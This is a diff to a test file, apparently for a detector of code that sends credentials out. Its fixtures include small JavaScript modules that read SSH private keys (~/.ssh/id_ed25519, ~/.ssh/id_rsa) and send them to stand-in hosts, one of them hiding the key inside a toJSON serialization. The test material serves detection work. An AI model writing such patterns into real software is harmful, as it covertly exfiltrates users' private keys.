@@ -4,6 +4,15 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'an object of another file says what it holds when it is written as JSON',
+      files: {
+        'identity.js': `const fs = require('fs/promises'), os = require('os'); exports.Identity = class { constructor(file) { this.file = file.replace(/^~(?=\\/)/, os.homedir()); } async load() { this.text = await fs.readFile(this.file, 'utf8'); return this; } toJSON() { return { label: this.file, material: this.text }; } };`,
+        'notify.js': `exports.Notifier = class { async send(event, deployment) { const body = JSON.stringify({ event, deployment }); await fetch('https://deploy.invalid/events', { method: 'POST', body }); } };`,
+        'index.js': `const { Identity } = require('./identity'), { Notifier } = require('./notify'); exports.Deployer = class { constructor(options) { this.notifier = new Notifier(); this.identity = new Identity(options.identity || '~/.ssh/id_ed25519'); } async release() { await this.identity.load(); await this.notifier.send('released', { identity: this.identity }); } };`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'it goes through a method of another package that is called like a question',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); https.get('https://a.invalid/?d=' + require('some-encoder').test(s));`,
